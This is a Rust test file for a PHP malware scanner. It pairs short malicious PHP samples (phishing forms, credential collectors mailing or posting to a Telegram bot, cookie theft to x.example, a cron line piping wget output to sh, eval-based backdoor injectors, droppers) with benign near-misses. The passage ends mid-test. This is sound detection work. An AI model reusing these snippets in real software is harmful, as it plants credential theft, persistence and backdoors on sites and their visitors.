//! Tests of [`super`]: each family with its own minimal shape, a clean near-miss, and its fixture.

use super::*;
use crate::php;

fn whys_of(src: &str) -> Vec<(Why, Danger)> {
    let t = php::tokenize_for_test(src.as_bytes(), 100_000);
    analyze(src.as_bytes(), &t, Options { small: t.len() < 400 }).into_iter().map(|s| (s.why, s.danger)).collect()
}

fn found(src: &str) -> Vec<Why> {
    let t = php::tokenize_for_test(src.as_bytes(), 100_000);
    analyze(src.as_bytes(), &t, Options { small: t.len() < 400 }).into_iter().map(|s| s.why).collect()
}

#[test]
fn a_login_page_that_greets_the_linked_address_is_phishing() {
    let direct = "<form action=\"next.php\" method=\"post\"><input name=\"e\" value=\"<?=$_GET['email']?>\">\
                  <input type=\"password\" name=\"p\"></form>";
    assert_eq!(found(direct), [Why::PhishingPage]);
    let decoded = "<?php $who = base64_decode($_REQUEST['u']); ?><form action=\"go.php\">\
                   <input value=\"<?php echo $who; ?>\"><input type='password' name='p'></form>";
    assert_eq!(found(decoded), [Why::PhishingPage]);
}

#[test]
fn an_escaped_or_own_login_form_is_not_phishing() {
    // The address escaped, as a site's own login or reset form does.
    let escaped = "<?php $who = htmlspecialchars($_GET['email']); ?><form method=\"post\">\
                   <input value=\"<?php echo $who; ?>\"><input type=\"password\" name=\"p\"></form>";
    assert!(found(escaped).is_empty());
    let wp = "<input type=\"text\" name=\"log\" value=\"<?php echo esc_attr( $user_login ); ?>\">\
              <input type=\"password\" name=\"pwd\">";
    assert!(found(wp).is_empty());
    // A search box that shows what was searched for has no password field.
    assert!(found("<form><input name=\"q\" value=\"<?=$_GET['user']?>\"></form>").is_empty());
    // A value of the page's own (not from the link).
    let own = "<?php $user = $row['login']; ?><input value=\"<?=$user?>\"><input type=\"password\">";
    assert!(found(own).is_empty());
}

#[test]
fn credentials_passed_through_variables_and_sent_away_are_collected() {
    let mailed = "<?php $e = $_POST['login']; $p = trim($_POST['passwd']);\n\
                  $m = \"User: $e\\nPass: $p\\n\"; mail('drop@example.net', 'log', $m);\n\
                  header('Location: https://mail.example.com/');";
    assert_eq!(found(mailed), [Why::CredentialCollector]);
    // Numbered form fields, named by the variables; stored and the visitor sent on.
    let stored = "<?php $email = $_POST['1']; $password = $_POST['2'];\n\
                  $line = 'Email: ' . $email . ' | Password: ' . $password;\n\
                  file_put_contents('r.txt', $line, FILE_APPEND);\n\
                  echo \"<script>window.location.href='https://outlook.example.com';</script>\";";
    assert_eq!(found(stored), [Why::CredentialCollector]);
    // fresh107's webmail logger: a large page's backend adding each victim to a log, the
    // visitor sent nowhere.
    let logged = format!(
        "<?php {} $email = $_POST['email']; $password = $_POST['password'];\n\
         $line = \"Email: $email | Password: $password\\n\"; file_put_contents('login_attempts.txt', $line, FILE_APPEND);\n\
         echo json_encode(['ok' => 1]);",
        "$a = 1; ".repeat(150)
    );
    assert_eq!(found(&logged), [Why::CredentialCollector]);
    // fresh115's Correos kit reads the card with `filter_input` and posts it to a chat bot.
    let filtered = "<?php $card = filter_input(INPUT_POST, 'card', FILTER_SANITIZE_STRING); $cvv = filter_input(INPUT_POST, 'code');\n\
                    $m = 'Card Number : ' . $card . \"\\n\"; $m .= 'CVV : ' . $cvv;\n\
                    file_get_contents('https://api.telegram.org/bot' . $t . '/sendMessage?chat_id=' . $c . '&text=' . urlencode($m));";
    assert_eq!(found(filtered), [Why::CredentialCollector]);
}

#[test]
fn a_welcome_mail_or_an_installer_is_not_a_collector() {
    // The new member's own password mailed to their own address.
    let welcome = "<?php $u = $_POST['user']; $p = $_POST['pass']; $to = $_POST['email'];\n\
                   mail($to, 'Welcome', \"Username: $u\\nPassword: $p\\n\"); header('Location: login.php');";
    assert!(found(welcome).is_empty());
    // An installer writing its settings, then its own next step.
    let installer = format!(
        "<?php {} $user = $_POST['db_user']; $pass = $_POST['db_pass'];\n\
         file_put_contents('.env', \"DB_USER=$user\\nDB_PASSWORD=$pass\\n\"); header('Location: step3.php');",
        "$a = 1; ".repeat(150)
    );
    assert!(found(&installer).is_empty());
}

#[test]
fn a_program_made_executable_and_started_is_a_dropper() {
    assert_eq!(found("<?php chmod('kw', 0755); exec('./kw -c x >/dev/null 2>&1');"), [Why::StartsProgram]);
    assert_eq!(found("<?php shell_exec('cd /tmp; ./miner --bg &');"), [Why::StartsProgram]);
    assert_eq!(found("<?php echo `nohup ./b.pl >/dev/null`;"), [Why::StartsProgram]);
}

#[test]
fn a_crontab_installed_from_php_with_a_schedule_is_persistence() {
    // A bot's helper: a line re-running its launcher every minute, written and installed.
    let helper = "<?php file_put_contents(getcwd().'/c.txt', '* * * * * /usr/bin/php '.getcwd().'/l.php'.PHP_EOL);\n\
                  echo exec('crontab '.getcwd().'/c.txt');";
    assert_eq!(found(helper), [Why::InstallsCronJob]);
    let piped = "<?php $j = \"*/5 * * * * wget -q -O- http://x.example/u | sh\";\n\
                 shell_exec(\"(crontab -l; echo '$j') | crontab -\");";
    assert_eq!(found(piped), [Why::InstallsCronJob]);
    let backtick = "<?php $c = '0 */2 * * * php ~/.x.php'; `echo \"$c\" > /tmp/c; crontab /tmp/c`;";
    assert_eq!(found(backtick), [Why::InstallsCronJob]);
}

#[test]
fn a_crontab_listed_or_named_in_a_message_is_not_persistence() {
    // Listing the jobs (a server-information page), with a schedule shown as help.
    let listing = "<?php echo '0 3 * * * php cron.php'; echo shell_exec('crontab -l');";
    assert!(found(listing).is_empty());
    // A scheduler's set-up message naming the command, not running it.
    let message = "<?php $io->note('Add this line with crontab -e: * * * * * php bin/grav scheduler');";
    assert!(found(message).is_empty());
    // Installed with no schedule in the file (a panel installing what its user wrote).
    assert!(found("<?php exec('crontab ' . escapeshellarg($file));").is_empty());
}

#[test]
fn an_application_calling_a_system_program_is_not_a_dropper() {
    assert!(found("<?php exec('/usr/bin/convert ' . escapeshellarg($f) . ' out.png');").is_empty());
    // Made readable only, and run in the foreground.
    assert!(found("<?php chmod('cache', 0644); exec('./bin/build --check', $out);").is_empty());
    // A help text naming a command is not a call.
    assert!(found("<?php echo 'Run ./install.sh & wait';").is_empty());
}

#[test]
fn a_page_watching_its_own_listing_is_found() {
    let src = "<?php $r = file_get_contents('https://safebrowsing.example/check?site=' . $_SERVER['HTTP_HOST']);\n\
               if (strpos($r, 'listed')) { exit; } header('Location: https://pills.example/');";
    assert_eq!(found(src), [Why::ChecksBlocklists]);
}

#[test]
fn a_blocklist_lookup_of_visitors_or_mail_is_not() {
    // An anti-spam plugin asks about the commenter's address, not its own site.
    let comments = "<?php $h = gethostbyname(implode('.', array_reverse(explode('.', $ip))) . '.zen.spamhaus.org');\n\
                    if ($h === '127.0.0.2') { exit; }";
    assert!(found(comments).is_empty());
    // A settings page linking to the service.
    assert!(found("<?php echo '<a href=\"https://transparencyreport.google.com/\">Check</a>'; exit;").is_empty());
}

#[test]
fn a_mailer_looping_over_typed_addresses_is_found() {
    let src = "<?php if ($_POST['go']) { $list = explode(\"\\n\", $_POST['to']);\n\
               foreach ($list as $one) { mail(trim($one), $_POST['subj'], $_POST['text'], 'From: ' . $_POST['from']); } }";
    assert_eq!(found(src), [Why::MailFromInput]);
}

#[test]
fn one_mail_to_a_typed_address_in_a_file_with_loops_is_not_a_mass_mailer() {
    // Regression: WP File Manager's e-mail check mails the address its user typed once, and the
    // plugin loops elsewhere; the loop and the mail were counted together.
    let verify = "<?php foreach ($rows as $r) { echo $r; }\n\
                  $to = sanitize_email($_POST['email']); $msg = 'Verify: ' . md5($to);\n\
                  mail($to, 'Email Verification', $msg, $headers);";
    assert!(found(verify).is_empty());
    // In a `for (…; …; …)` loop, braces or not, it is one.
    let counted = "<?php $l = explode(\"\\n\", $_POST['to']);\n\
                   for ($i = 0; $i < count($l); $i++) mail($l[$i], $_POST['s'], $_POST['t']);";
    assert_eq!(found(counted), [Why::MailFromInput]);
}

#[test]
fn a_contact_form_or_a_newsletter_is_not_a_mailer() {
    // The site's own address, the visitor's text: a contact form.
    let contact =
        "<?php foreach ($admins as $a) { mail($a, 'Contact', $_POST['message'], 'Reply-To: ' . $_POST['email']); }";
    assert!(found(contact).is_empty());
    // Subscribers from the database, the text from the form.
    let news = "<?php $rows = $db->query('SELECT email FROM subscribers');\n\
                foreach ($rows as $r) { mail($r['email'], $_POST['subject'], $_POST['body']); }";
    assert!(found(news).is_empty());
    // A copy sent to the visitor once.
    assert!(found("<?php mail($_POST['email'], 'Thanks', 'We got your message.');").is_empty());
}

#[test]
fn writing_a_handler_for_invented_endings_plants_config() {
    let src = "<?php $h = fopen('.htaccess', 'w');\nfwrite($h, \"Options +ExecCGI\\nAddHandler cgi-script .xyz\\n\");";
    assert_eq!(found(src), [Why::PlantsServerConfig]);
    let heredoc =
        "<?php $c = <<<EOT\nAddType application/x-httpd-php .png\nEOT;\nfile_put_contents('img/.htaccess', $c);";
    assert_eq!(found(heredoc), [Why::PlantsServerConfig]);
}

#[test]
fn writing_a_php_ini_that_frees_every_function_weakens_php() {
    // fresh149's Shell Booter bot, before it floods.
    let src = "<?php file_put_contents(\"php.ini\", \"disable_functions = none\\nsafe_mode = Off\");";
    assert_eq!(found(src), [Why::PhpWeakened]);
    // A settings page writing the host's own list of switched-off functions.
    let own = "<?php file_put_contents('php.ini', \"disable_functions = exec,passthru,shell_exec,system\\n\");";
    assert!(found(own).is_empty());
}

#[test]
fn writing_a_doorway_rewrite_into_htaccess_is_found() {
    // A doorway kit's rewriter puts its rule back, the file's name split to hide it.
    let src = "<?php ignore_user_abort(); set_time_limit(0);\n$f1 = \".ht\"; $f2 = \"acc\"; $f3 = \"ess\"; $ff = $f1.$f2.$f3;\n\
               if (filesize($ff) > 120) { $h = fopen($ff, \"w\");\n\
               fwrite($h, \"RewriteEngine On\nRewriteRule ^([A-Za-z0-9-]+).html$ 6szo68jxftuiqbk.php?world=5&hl=$1 [L]\"); }";
    assert_eq!(found(src), [Why::RewriteToHiddenScript]);
    // WordPress writing its own rules.
    let wp = "<?php file_put_contents($home . '.htaccess', \"RewriteEngine On\nRewriteRule ^index\\.php$ - [L]\n\
              RewriteRule . /index.php [L]\n\");";
    assert!(found(wp).is_empty());
}

#[test]
fn a_cache_or_security_plugin_writing_htaccess_does_not_plant_config() {
    // Fonts and compressed files given their types; PHP switched off in uploads.
    let cache = "<?php file_put_contents($dir . '/.htaccess', \"AddType font/woff2 .woff2\\nAddType text/css .css\\n\
                 AddEncoding gzip .gz\\n\");";
    assert!(found(cache).is_empty());
    let guard = "<?php file_put_contents($up . '/.htaccess', \"<Files *.php>\\ndeny from all\\n</Files>\\n\
                 php_flag engine off\\nSetHandler none\\n\");";
    assert!(found(guard).is_empty());
    // A host's PHP version line for PHP files.
    let version = "<?php file_put_contents('.htaccess', \"AddHandler application/x-httpd-php81 .php\\n\");";
    assert!(found(version).is_empty());
}

#[test]
fn a_page_loading_a_kits_visitor_filter_is_found() {
    let two = "<?php include 'filters/anti2.php'; require_once('./guard/blocker.php'); ?><html>Sign in</html>";
    assert_eq!(found(two), [Why::PhishingBotFilter]);
    let one = "<?php require 'Bots/check.php'; $ip = $_SERVER['REMOTE_ADDR']; header('Location: step2.php');";
    assert_eq!(whys_of(one), [(Why::PhishingBotFilter, Danger::Medium)]);
    // A sign-in page behind the filter.
    let page = "<?php require_once 'blocker.php'; ?><form action=\"next.php\" method=\"post\">\
                <input name=\"login\"><input type=\"password\" name=\"passwd\"></form>";
    assert_eq!(whys_of(page), [(Why::PhishingBotFilter, Danger::Medium)]);
    // Regression: fresh159's Chase kit guards its folders with the SCAMA filter's `autob/` files.
    let guard =
        "<?php include '../autob/bt.php'; include \"../autob/bts2.php\"; header(\"HTTP/1.0 404 Not Found\"); die();";
    assert_eq!(whys_of(guard), [(Why::PhishingBotFilter, Danger::High)]);
    let trap = "<?php $ib = $_SERVER['REMOTE_ADDR']; include 'filters/basicbot.php'; include 'filters/uacrawler.php'; logbot('x'); banbot();";
    assert_eq!(whys_of(trap), [(Why::PhishingBotFilter, Danger::High)]);
    assert!(crate::shapes::may_match(guard.as_bytes()) && crate::shapes::may_match(trap.as_bytes()));
}

#[test]
fn an_applications_includes_are_not_a_visitor_filter() {
    // Words inside names, and a spam filter's class loaded without reading the visitor.
    let app = "<?php require 'lib/antispam.php'; include 'robotstxt.php'; include 'inc/blacklist.php'; echo 'ok';";
    assert!(found(app).is_empty());
    // A theme's template part and a login form (not behind a filter).
    let theme =
        "<?php include 'parts/block.php'; include 'header.php'; ?><form><input type=\"password\" name=\"p\"></form>";
    assert!(found(theme).is_empty());
}

#[test]
fn a_script_sending_the_visitors_cookies_away_is_found() {
    let src = "<?php echo \"<script>document.location='log.php?c='+document.cookie;</script>\";";
    assert_eq!(found(src), [Why::StealsCookies]);
    let img = "<script>new Image().src = 'https://x.example/c.gif?d=' + escape(document.cookie);</script><?php ?>";
    assert_eq!(found(img), [Why::StealsCookies]);
}

#[test]
fn reading_or_setting_cookies_in_script_is_not_theft() {
    let consent = "<script>if (document.cookie.indexOf('ok=1') < 0) { location.href = '/consent?back=' + location.pathname; }\
                   document.cookie = 'ok=1; path=/';</script><?php ?>";
    assert!(found(consent).is_empty());
}

#[test]
fn a_password_mailed_to_a_free_mail_address_is_stolen() {
    // fresh39's backdoored Magento admin session: the login's own parameters mailed out.
    let login = r#"<?php class Session { public function login($username, $password) {
        $user = $this->auth($username, $password);
        if ($user) { mail("hollow.stores@gmail.com", "Admin From " . $_SERVER['HTTP_HOST'],
            "Login : " . $_SERVER['REQUEST_URI'] . "\nUsername : " . $username . "\nPassword : " . $password); }
        return $user; } }"#;
    assert_eq!(found(login), [Why::CredentialCollector]);
    let interpolated =
        r#"<?php function after_login($u, $pass) { mail('keep.logs@yandex.ru', 'x', "user=$u pass=$pass"); }"#;
    assert_eq!(found(interpolated), [Why::CredentialCollector]);
    // The site's own address, the user's own address, or no password in the mail.
    assert!(found(&login.replace("hollow.stores@gmail.com", "admin@shop.example")).is_empty());
    let welcome = r#"<?php mail($email, 'Welcome', "Username : " . $login . "\nPassword : " . $password);"#;
    assert!(found(welcome).is_empty());
    assert!(found(r#"<?php mail('owner@gmail.com', 'New order', "Order : " . $id . "\nTotal : " . $sum);"#).is_empty());
}

#[test]
fn code_put_back_from_a_picture_is_a_restorer() {
    let src = "<?php $keep = './wp-admin/images/a.png'; $to = './cache/index.php';\n\
               if (!file_exists($to)) { @file_put_contents($to, file_get_contents($keep)); }";
    assert_eq!(found(src), [Why::RestoresFromDisguise]);
    assert_eq!(found("<?php copy('img/bg.gif', '.htaccess');"), [Why::RestoresFromDisguise]);
    // fresh108's `lerbim.php`: the scanner's quarantined scripts renamed back.
    let back = "<?php foreach (scandir('.') as $f) { if (strpos($f, '.php.suspected')) {\n\
                $n = explode('.', $f)[0]; rename($n . '.php.suspected', $n . '.php'); } }";
    assert_eq!(found(back), [Why::RestoresFromDisguise]);
    // Reading the word, renaming nothing: quiet.
    assert!(found("<?php $msg = 'Files ending in .suspected were moved aside by the scanner.'; echo $msg;").is_empty());
    // The site's root files put back from copies kept as scripts (fresh25's 8349.jpg).
    let root = "<?php $index = $_SERVER['DOCUMENT_ROOT'] . '/index.php';\n\
                $keep = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/themes/t/include/index.jsc';\n\
                if (filesize($index) != filesize($keep)) { @unlink($index); @file_put_contents($index, file_get_contents($keep)); @chmod($index, 0444); }";
    assert_eq!(found(root), [Why::RestoresFromDisguise]);
    // The names and paths spelled a piece at a time, the calls made through `call_user_func`
    // (fresh37's restorer in a fake theme folder).
    let pieces = r#"<?php $r = $_SERVER["DOCUMENT_ROOT"]; $h = $r."/.h"."t"."a"."cc"."es"."s";
$b = $r.'/'.'w'.'p'.'-'.'a'.'d'.'m'.'i'.'n'.'/'.'c'.'s'.'s'.'/'.'c'.'o'.'l'.'o'.'r'.'s'.'.'.'c'.'s'.'s';
$p = "f"."i"."l"."e"."_p"."ut"."_c"."on"."te"."nt"."s"; $g = "f"."il"."e_"."ge"."t_"."con"."te"."nt"."s";
@call_user_func($p, $h, @call_user_func($g, $b));"#;
    assert_eq!(found(pieces), [Why::RestoresFromDisguise]);
    // Another function called so, or a style sheet written from a picture, is not.
    assert!(found(&pieces.replace("@call_user_func($p, $h", "@call_user_func('strlen', $h")).is_empty());
    assert!(found(&pieces.replace(r#"$h = $r."/.h"."t"."a"."cc"."es"."s";"#, r#"$h = $r."/a"."."."css";"#)).is_empty());
}

#[test]
fn copying_pictures_or_templates_is_not_a_restorer() {
    assert!(found("<?php copy('logo.png', 'uploads/logo.png');").is_empty());
    assert!(found("<?php file_put_contents('cache/page.php', file_get_contents('tpl/page.tpl'));").is_empty());
    assert!(found("<?php file_put_contents($thumb, file_get_contents($url));").is_empty());
    // A path whose last part is only a folder, joined later.
    assert!(found("<?php $dir = $root . '/assets/'; file_put_contents($dir, file_get_contents('a.css'));").is_empty());
}

#[test]
fn mail_to_a_hidden_address_is_a_skimmer() {
    let decoded = "<?php $card = $order->getCard(); mail(base64_decode('Ym94QG1haWwuZXhhbXBsZQ=='), 'card', $card);";
    assert_eq!(found(decoded), [Why::HiddenMailRecipient]);
    let assembled = "<?php $t = array('b','o','x','@','m'); $to = $t[0] . $t[1] . $t[2] . $t[3] . $t[4] . '.example';\n\
                     mail($to, 'new', $data);";
    assert_eq!(found(assembled), [Why::HiddenMailRecipient]);
}

#[test]
fn mail_to_a_configured_or_looked_up_address_is_not_hidden() {
    assert!(found("<?php mail($config['admin_email'], 'Order', $body);").is_empty());
    // The subject encoded for mail headers is not the recipient.
    assert!(found("<?php mail($to, '=?UTF-8?B?' . base64_encode($s) . '?=', $b);").is_empty());
    assert!(found("<?php $to = $row['first'] . '@' . $row['domain']; mail($to, 'Hi', $b);").is_empty());
}

#[test]
fn writing_hidden_code_into_files_plants_a_backdoor() {
    let src = "<?php $p = '<?php @eval(base64_decode(\"ZWNobyAxOw==\")); ?>';\n\
               foreach (glob('../*/index.php') as $f) { file_put_contents($f, $p . file_get_contents($f)); }";
    assert_eq!(found(src), [Why::InjectsHiddenCode]);
}

#[test]
fn writing_ordinary_php_is_not_planting() {
    // A cache plugin's header, an installer's settings file.
    let cache = "<?php file_put_contents($f, '<?php exit; ?>' . serialize($data));";
    assert!(found(cache).is_empty());
    let config = "<?php file_put_contents('config.php', \"<?php\\ndefine('DB', '\" . addslashes($db) . \"');\\n\");";
    assert!(found(config).is_empty());
    // Documentation that shows the shape, never written.
    assert!(found("<?php echo htmlspecialchars('<?php eval(base64_decode($x)); ?>');").is_empty());
}

#[test]
fn a_file_manager_anyone_can_open_is_a_shell() {
    let src = "<?php $d = isset($_GET['d']) ? $_GET['d'] : '.';\n\
               if (isset($_POST['rm'])) { unlink($_POST['rm']); }\n\
               if (isset($_POST['from'])) { rename($_POST['from'], $_POST['to']); }\n\
               foreach (scandir($d) as $e) { echo \"<a href='?d=$d/$e'>$e</a><br>\"; }";
    assert_eq!(found(src), [Why::FileManagerShell]);
}

#[test]
fn an_applications_file_manager_is_not_a_shell() {
    let body = "if (isset($_POST['rm'])) { unlink($_POST['rm']); }\n\
                if (isset($_POST['from'])) { rename($_POST['from'], $_POST['to']); }\n\
                foreach (scandir($dir) as $e) { echo $e; }";
    // Behind the application's permission check.
    assert!(found(&format!("<?php if (!current_user_can('manage_options')) {{ exit; }}\n{body}")).is_empty());
    // A class's method, run when the application calls it.
    assert!(
        found(&format!("<?php class Files extends Controller {{ function manage($dir) {{ {body} }} }}")).is_empty()
    );
    // A library's functions, run by the application that loads them.
    assert!(found(&format!("<?php function media_delete($dir) {{ {body} }}")).is_empty());
    // Deleting the visitor's own cached file by a fixed name is not managing files.
    assert!(found("<?php unlink('cache/' . md5($key)); foreach (glob('cache/*') as $f) { echo $f; }").is_empty());
}

#[test]
fn sending_visitors_to_a_random_other_site_is_a_redirector() {
    let src = "<?php $to = array('https://a.example/offer', 'https://b.example/win');\n\
               header('Location: ' . $to[array_rand($to)]); exit;";
    assert_eq!(found(src), [Why::TrafficRedirector]);
    // The number drawn first, the page refreshed to the address (a mobile spam redirector).
    let refresh = "<?php $phones = array('http://a.example/p.php?s=1', 'http://b.example/q.php?s=1');\n\
                   $n = mt_rand(0, count($phones) - 1); $url = $phones[$n]; ?>\n\
                   <meta http-equiv=\"refresh\" content=\"2; url=<?php echo $url; ?>\">";
    assert_eq!(found(refresh), [Why::TrafficRedirector]);
    // Sites' names alone, the scheme written in the redirect (itsterling's and luganskaid's
    // dating-spam redirectors in wp-admin/css and wp-includes/js).
    let hosts = "<?php $urls = array(\"dates.example\", \"singles-find.example\", \"hookup.example\");\n\
                 $url = $urls[array_rand($urls)]; header(\"Location: http://$url\"); echo 'Loading...';";
    assert_eq!(found(hosts), [Why::TrafficRedirector]);
}

#[test]
fn a_fixed_redirect_or_a_random_banner_is_not_a_redirector() {
    assert!(found("<?php header('Location: https://www.shop.example/'); exit;").is_empty());
    let banner = "<?php $ads = array('https://cdn.example/a.png', 'https://cdn.example/b.png');\n\
                  echo '<img src=\"' . $ads[array_rand($ads)] . '\">';";
    assert!(found(banner).is_empty());
    // A page refreshed to itself, with a banner drawn at random.
    let own = "<?php $ads = array('https://cdn.example/a.png', 'https://cdn.example/b.png'); $k = mt_rand(0, 1); ?>\n\
               <meta http-equiv=\"refresh\" content=\"60\"><img src=\"<?php echo $ads[$k]; ?>\">";
    assert!(found(own).is_empty());
    // A random page of the site itself.
    let own = "<?php $pages = array('/a', '/b'); header('Location: ' . $pages[mt_rand(0, 1)]);";
    assert!(found(own).is_empty());
    // …or one of its own files, by name.
    let files =
        "<?php $pages = array('offer-a.php', 'offer-b.html'); header('Location: ' . $pages[array_rand($pages)]);";
    assert!(found(files).is_empty());
}

/// The own-written fixtures of these families (the integration test sweeps them all) are
/// reported for their family through `detect::judge`.
#[test]
fn each_fixture_is_reported_for_its_family() {
    let cases: &[(&str, &str, Why)] = &[
        (
            "phishing_login_greets_link_address.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/phishing_login_greets_link_address.php"),
            Why::PhishingPage,
        ),
        (
            "collector_through_variables.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/collector_through_variables.php"),
            Why::CredentialCollector,
        ),
        (
            "starts_dropped_program.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/starts_dropped_program.php"),
            Why::StartsProgram,
        ),
        (
            "watches_own_blocklisting.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/watches_own_blocklisting.php"),
            Why::ChecksBlocklists,
        ),
        (
            "mailer_loops_over_typed_list.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/mailer_loops_over_typed_list.php"),
            Why::MailFromInput,
        ),
        (
            "writes_cgi_handler_htaccess.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/writes_cgi_handler_htaccess.php"),
            Why::PlantsServerConfig,
        ),
        (
            "kit_page_loads_visitor_filter.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/kit_page_loads_visitor_filter.php"),
            Why::PhishingBotFilter,
        ),
        (
            "cookie_thief_redirect.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/cookie_thief_redirect.php"),
            Why::StealsCookies,
        ),
        (
            "bootstrap_forwards_requests_to_hidden_address.php",
            include_str!(
                "../../../../tests/fixtures/sweep/malicious/bootstrap_forwards_requests_to_hidden_address.php"
            ),
            Why::SendsRequestToHiddenAddress,
        ),
        (
            "restores_code_from_picture.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/restores_code_from_picture.php"),
            Why::RestoresFromDisguise,
        ),
        (
            "skimmer_hidden_recipient.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/skimmer_hidden_recipient.php"),
            Why::HiddenMailRecipient,
        ),
        (
            "injector_plants_eval.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/injector_plants_eval.php"),
            Why::InjectsHiddenCode,
        ),
        (
            "open_file_manager.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/open_file_manager.php"),
            Why::FileManagerShell,
        ),
        (
            "random_traffic_redirector.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/random_traffic_redirector.php"),
            Why::TrafficRedirector,
        ),
    ];
    for (name, src, why) in cases {
        let hits = crate::detect::judge(&format!("lib/{name}"), name, src.as_bytes(), &[]);
        assert!(hits.iter().any(|h| h.why == *why), "{name}: {hits:?}");
    }
}

#[test]
fn a_page_that_copies_pages_into_a_random_folder_and_sends_the_visitor_there_is_a_kit_copier() {
    let copier = "<?php $r = rand(0, 99999); $d = md5(\"x$r\");\n\
                  function cp($a, $b) { $h = opendir($a); @mkdir($b);\n\
                  while (($f = readdir($h)) !== false) { copy(\"$a/$f\", \"$b/$f\"); } }\n\
                  cp('kit', $d); header(\"location:$d\");";
    assert_eq!(found(copier), [Why::KitCopier]);
    let fixture = include_str!("../../../../tests/fixtures/sweep/malicious/kit_copier_random_folder.php");
    assert_eq!(found(fixture), [Why::KitCopier]);
}

#[test]
fn an_installer_that_copies_folders_and_sends_its_user_to_a_fixed_step_is_not_a_kit_copier() {
    // The folder is named, the redirect fixed: an installer.
    let installer = "<?php function cp($a, $b) { @mkdir($b); foreach (scandir($a) as $f) { copy(\"$a/$f\", \"$b/$f\"); } }\n\
                     cp('dist', 'public'); header('Location: install.php?step=2');";
    assert!(found(installer).is_empty());
    // A random folder for temporary work, the user sent to a fixed page.
    let temp = "<?php $tmp = 'cache/' . uniqid(); mkdir($tmp); foreach (glob('src/*') as $f) { copy($f, $tmp . '/' . basename($f)); }\n\
                header('Location: done.php');";
    assert!(found(temp).is_empty());
    // A random token in the address, but nothing copied (a login's redirect).
    let token = "<?php $t = bin2hex(random_bytes(8)); mkdir('x'); header(\"Location: next.php?t=$t\");";
    assert!(found(token).is_empty());
}

#[test]
fn a_page_that_tells_search_engines_it_does_not_exist_hides_from_them() {
    let by_browser = "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'google') !== false) { header('HTTP/1.0 404 Not Found'); exit; }\n\
                      echo '<form><input type=text name=card></form>';";
    assert_eq!(found(by_browser), [Why::HidesFromSearchEngines]);
    let by_host = "<?php $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); $no = array('amazonaws', 'google', 'tor-exit');\n\
                   foreach ($no as $w) { if (substr_count($h, $w) > 0) { header(\"HTTP/1.0 404 Not Found\"); die(); } }";
    assert_eq!(found(by_host), [Why::HidesFromSearchEngines]);
    let fixture = include_str!("../../../../tests/fixtures/sweep/malicious/kit_gate_search_engine_404.php");
    assert_eq!(found(fixture), [Why::HidesFromSearchEngines]);
    // fresh150's `netcraft_check.php`: Googlebot's whole browser names compared.
    let names = "<?php $v_agent = $_SERVER['HTTP_USER_AGENT'];\n\
                 if ($v_agent == \"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\") {\n\
                 header('HTTP/1.0 404 Not Found'); die(); }";
    assert_eq!(found(names), [Why::HidesFromSearchEngines]);
}

#[test]
fn a_bot_filter_that_turns_away_scrapers_or_answers_google_normally_does_not_hide() {
    // Unwanted crawlers refused (a site's own bot filter).
    let scrapers = "<?php foreach (['ahrefsbot', 'mj12bot', 'semrush'] as $b) { if (stripos($_SERVER['HTTP_USER_AGENT'], $b) !== false) { header('HTTP/1.1 403 Forbidden'); exit; } }";
    assert!(found(scrapers).is_empty());
    // Google named for another reason, a 404 page elsewhere (a site's not-found handler).
    let handler = "<?php $ua = $_SERVER['HTTP_USER_AGENT']; if (strpos($ua, 'google') !== false) { $log->crawler($ua); }\n\
                   if (!$page) { header('HTTP/1.1 403 Forbidden'); }";
    assert!(found(handler).is_empty());
    // A 404 with no visitor check (a router) next to a maps key named google.
    let router =
        "<?php $maps = array('provider' => 'google'); if (!$route) { header('HTTP/1.0 404 Not Found'); exit; }";
    assert!(found(router).is_empty());
}

#[test]
fn each_kit_word_is_read_as_its_list_says() {
    for (bit, w) in PATH_CHANGES.iter().enumerate() {
        assert!(kit_word(w) == KitWord::PathChange(bit as u8), "{}", String::from_utf8_lossy(w));
    }
    assert!(LISTINGS.iter().all(|w| kit_word(w) == KitWord::Listing));
    assert!(kit_word(b"chmod") == KitWord::PathChange(CHMOD_BIT));
    assert!(kit_word(b"file_put_contents") == KitWord::PathChange(WRITES_BIT));
    assert!(kit_word(b"strlen") == KitWord::None);
}

#[test]
fn a_page_dressed_as_a_providers_sign_in_that_mails_what_it_is_sent_is_phishing() {
    let page = "<?php if (isset($_POST['phone'])) { $phone = $_POST['phone']; $rec = $_POST['recovery'];\n\
                $msg = \"phone: \" . $phone . \"\\nrecovery: \" . $rec; mail('drop@example.net', 'Gmail', $msg);\n\
                header('Location: https://drive.google.com/'); die(); } ?>\n\
                <html><head><title>Sign in - Google Accounts</title></head><body><form method=post>\n\
                <input name=phone><input name=recovery></form></body></html>";
    assert_eq!(found(page), [Why::PhishingPage]);
    // A shop's contact form mails the same fields; a sign-in page of the site's own mails nothing.
    let contact = page.replace("Sign in - Google Accounts", "Contact us - Demo Shop");
    assert!(found(&contact).is_empty(), "{:?}", found(&contact));
    let own =
        "<html><head><title>Log in with Google | Demo Shop</title></head><body><?php echo $button; ?></body></html>";
    assert!(found(own).is_empty());
}

#[test]
fn a_sign_in_title_hidden_in_character_codes_is_phishing() {
    // Regression: fresh93's Microsoft kit writes `Sign in to your Microsoft account` one
    // character code per letter, and keeps the address it is sent in the session.
    let coded: String = "Sign in to your Microsoft account".bytes().map(|b| format!("&#{b};")).collect();
    let page = format!(
        "<?php session_start(); require 'core/blocker.php';\nif (isset($_POST['user'])) {{ $_SESSION['email'] = base64_encode($_POST['user']); exit(); }} ?>\n\
         <html><head><title>{coded}</title></head><body><form method=post><input name=user></form></body></html>"
    );
    assert_eq!(found(&page), [Why::PhishingPage]);
    assert_eq!(decode_codes(b"&#x53;&#105; &#103;"), b"Sig");
